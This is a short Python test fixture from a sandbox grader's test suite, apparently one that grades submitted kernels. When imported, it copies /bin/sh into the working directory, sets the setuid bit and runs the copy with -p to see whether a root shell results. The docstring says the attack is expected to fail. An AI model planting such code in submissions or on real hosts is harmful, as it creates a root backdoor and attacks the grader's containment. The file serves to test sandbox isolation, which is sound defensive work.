"""Attack (sandbox): at import, copy a shell into the working directory and make it
setuid, hoping a grader running as root leaves a root shell on the host.

Expected: every kernel keeps 10/10 (the attack costs nothing, and gains nothing); the
copy lives on the sandbox's private nosuid tmpfs, owned by uid 65534, and vanishes
with it; nothing setuid appears on the host. ``M5_ATTACK_REPORT`` (raw runs only) makes
it print what it managed.
"""

import json as _json
import os as _os
import shutil as _shutil
import stat as _stat
import subprocess as _subprocess

_shell = next(p for p in ("/bin/sh", "/usr/bin/sh", "/bin/dash", "/usr/bin/dash") if _os.path.exists(p))
_found = {}
try:
    _shutil.copyfile(_shell, "rootshell")
    _os.chmod("rootshell", 0o4755)
    _info = _os.stat("rootshell")
    _found["setuid_bit"] = bool(_info.st_mode & _stat.S_ISUID)
    _found["owner"] = _info.st_uid
    _found["runs_as"] = _subprocess.run(
        ["./rootshell", "-p", "-c", "id -u; id -ru"], capture_output=True, text=True, timeout=10
    ).stdout.split()
except OSError as _exc:
    _found["error"] = type(_exc).__name__
_found["cwd"] = _os.getcwd()
if _os.environ.get("M5_ATTACK_REPORT"):
    print(_json.dumps(_found), flush=True)
